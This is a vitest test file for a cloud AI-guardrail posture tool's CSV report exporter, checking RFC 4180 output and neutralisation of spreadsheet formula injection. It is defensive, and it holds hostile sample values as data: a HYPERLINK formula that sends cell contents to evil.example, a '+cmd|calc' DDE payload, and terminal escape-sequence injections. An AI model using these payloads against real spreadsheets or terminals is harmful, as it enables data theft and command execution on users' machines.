/**
 * `--format csv`: RFC 4180 rows that a CSV parser reads back cell for cell, with formula prefixes
 * neutralised (OWASP CSV Injection) and control characters shown escaped.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { csvCell, csvColumns, renderCsv } from '../../src/reporters/csv.ts';
import { runMain } from '../e2e/in-process.ts';
import { exportReport, hostileName } from './export-fixture.ts';

/**
 * A strict RFC 4180 reader (§2): records end with CRLF; a quoted field may hold commas, CR, LF and
 * doubled quotes; anything else after a closing quote, or a bare quote in an unquoted field, is an error.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let index = 0;
  let quoted = false;
  while (index < text.length) {
    const char = text[index] as string;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 2;
      } else if (char === '"') {
        quoted = false;
        index++;
        const next = text[index];
        if (next !== ',' && next !== '\r') throw new Error(`character after a closing quote at ${index}: ${JSON.stringify(next)}`);
      } else {
        field += char;
        index++;
      }
    } else if (char === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${index}`);
      quoted = true;
      index++;
    } else if (char === ',') {
      record.push(field);
      field = '';
      index++;
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else if (char === '\n' || char === '\r') {
      throw new Error(`bare line break at ${index}`);
    } else {
      field += char;
      index++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

/** What a spreadsheet would treat as a formula or a cell/row break at the start of a cell. */
const dangerousStart = /^[=+\-@\t\r\n\0]/;
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const controlCharacter = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

afterEach(() => {
  vi.unstubAllEnvs();
});

describe('CSV report', () => {
  const report = exportReport();
  const rows = parseCsv(renderCsv(report));

  it('has a header and one row per finding, every row with every column', () => {
    expect(rows[0]).toEqual(csvColumns.map(([header]) => header));
    expect(rows).toHaveLength(report.findings.length + 1);
    for (const row of rows) expect(row).toHaveLength(csvColumns.length);
    const failing = rows.find((row) => row[3] === 'aws/guardrail-content-filters') as string[];
    const finding = report.findings.find((candidate) => candidate.id === 'f-fail');
    expect(failing.slice(0, 8)).toEqual([
      'aws',
      'account/111122223333',
      'cn-north-1',
      'aws/guardrail-content-filters',
      'critical',
      'fail',
      'test-reason',
      'arn:aws-cn:bedrock:cn-north-1:111122223333:guardrail/x',
    ]);
    expect(failing[11]).toBe(finding?.fingerprint);
    expect(failing[12]).toBe('L2.controls L3.coverage');
  });

  it('neutralises formula prefixes and control characters in every cell', () => {
    for (const row of rows.slice(1))
      for (const cell of row) {
        expect(cell).not.toMatch(dangerousStart);
        expect(cell).not.toMatch(controlCharacter);
      }
    const cells = rows.flat();
    // The hostile name: a leading `'`, its quotes and comma intact as data, CR/LF/ESC shown escaped.
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?q="&A1,"click"),\\r\\n\\x1b[2Jforged`);
    expect(cells).toContain("'+cmd|calc");
    expect(cells).toContain("'-1+1");
    expect(cells).toContain("'@SUM(A1:A9)");
    expect(cells).toContain('Guardrail =HYPERLINK("http://evil.example/?q="&A1,"click"),\\r\\n\\x1b[2Jforged does not block HATE');
  });

  it('round-trips any value: a cell reads back as the value, neutralised', () => {
    const samples = [
      '',
      'plain',
      'a,b',
      'say "hi"',
      '"',
      '""',
      'line\nbreak',
      'cr\r\nlf',
      '=1+1',
      '+1',
      '-1',
      '@a',
      '\t=1',
      '\r=1',
      '\u0000x',
      ' =1',
      "'=1",
      '\u202eevil',
      '\u001b]8;;http://x\u0007link',
      hostileName,
    ];
    let seed = 7;
    const alphabet = ['a', ',', '"', '\r', '\n', '\t', '=', '+', '-', '@', ' ', "'", '\u001b', '\u0000', 'é', '\u202e'];
    for (let sample = 0; sample < 300; sample++) {
      let value = '';
      const length = sample % 12;
      for (let position = 0; position < length; position++) {
        seed = (seed * 1103515245 + 12345) % 2 ** 31;
        value += alphabet[seed % alphabet.length];
      }
      samples.push(value);
    }
    for (const value of samples) {
      const [[cell]] = parseCsv(`${csvCell(value)}\r\n`) as [[string]];
      expect(cell).not.toMatch(dangerousStart);
      expect(cell).not.toMatch(controlCharacter);
      // Printable values come back exactly, behind a `'` when they would start a formula.
      if (!controlCharacter.test(value)) expect(cell).toBe(/^[=+\-@]/.test(value) ? `'${value}` : value);
    }
  });

  it('aiposture demo --format csv: parses back, one row per finding', async () => {
    const run = await runMain(['demo', '--format', 'csv', '--quiet']);
    expect(run.code).toBe(0);
    const demoRows = parseCsv(run.stdout);
    expect(demoRows[0]).toEqual(csvColumns.map(([header]) => header));
    expect(demoRows.length).toBeGreaterThan(50);
    for (const row of demoRows) expect(row).toHaveLength(csvColumns.length);
    expect(new Set(demoRows.slice(1).map((row) => row[5]))).toEqual(new Set(['pass', 'fail', 'not_applicable']));
  }, 60_000);
});
